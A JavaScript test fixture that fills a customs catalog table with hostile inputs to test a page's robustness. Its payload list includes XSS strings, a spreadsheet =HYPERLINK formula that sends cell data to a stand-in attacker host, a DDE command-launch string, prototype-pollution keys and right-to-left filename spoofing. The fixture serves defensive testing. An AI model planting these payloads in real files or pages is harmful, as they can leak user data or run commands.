/*
 * The entry lines of hostile-page.html: 60 catalog lines (catalog-lines.js, a problem seeded on
 * every third) whose cells are then filled with text meant to break a reader or a drawer of
 * marks. Cells are set with textContent: markup stays text. customsPreflightHostileLines() gives
 * the same table to Node.
 */
(function () {
  const HUGE = 'Stainless steel fasteners for machinery. '.repeat(4900).slice(0, 200000);
  // [column, text]: Description (2), Part Number (1), Country of Origin (4).
  const PAYLOADS = [
    [2, '<img src=x onerror="window.__pwned=1">'],
    [2, '<script>window.__pwned=2</script>'],
    [2, '"><svg onload=alert(1)>'],
    [2, '=HYPERLINK("http://attacker.example/?"&A1,"Click")'],
    [2, '+cmd|" /C calc"!A0'],
    [2, ' \u200B=1+1'],
    [2, '\uFF1DSUM(A1:A9)'],
    [2, HUGE],
    [2, 'Laptop \u202Egpj.exe computers'],
    [2, '\u2066Steel\u2069 \u200Ebolts\u200F \u061C'],
    [2, 'Bolts\u0000\u0007\u001B[31m zinc plated'],
    [2, 'Lone \uD800 surrogate \uDFFF in text'],
    [1, '__proto__'],
    [1, 'constructor'],
    [1, 'toString'],
    [1, 'hasOwnProperty'],
    [1, 'prototype'],
    [4, '__proto__'],
    [4, 'constructor'],
    [4, 'XX'],
    [4, '\u202EDE'],
    [1, 'valueOf'],
  ];
  const EXTRA_HEADERS = ['__proto__', 'constructor'];

  globalThis.customsPreflightHostileLines = function () {
    const base = globalThis.customsPreflightCatalogLines({ rows: 60, seedEvery: 3 });
    const rows = base.rows.map((row, index) => {
      const cells = row.slice();
      const payload = PAYLOADS[index % PAYLOADS.length];
      cells[payload[0]] = payload[1];
      return cells.concat(['toString', index % 2 ? 'valueOf' : '__defineGetter__']);
    });
    return { headers: base.headers.concat(EXTRA_HEADERS), rows };
  };

  if (typeof document === 'undefined') return;
  const { headers, rows } = globalThis.customsPreflightHostileLines();
  const table = document.getElementById('entry-lines');
  const head = table.createTHead().insertRow();
  for (const header of headers) {
    const th = document.createElement('th');
    th.scope = 'col';
    th.textContent = header;
    head.append(th);
  }
  const body = table.createTBody();
  for (const row of rows) {
    const tr = body.insertRow();
    for (const text of row) tr.insertCell().textContent = text;
  }
  // Armed once the table is in: the watcher's records of the page's own rows come before this.
  setTimeout(() => (window.hostileReport.armed = true), 0);
})();
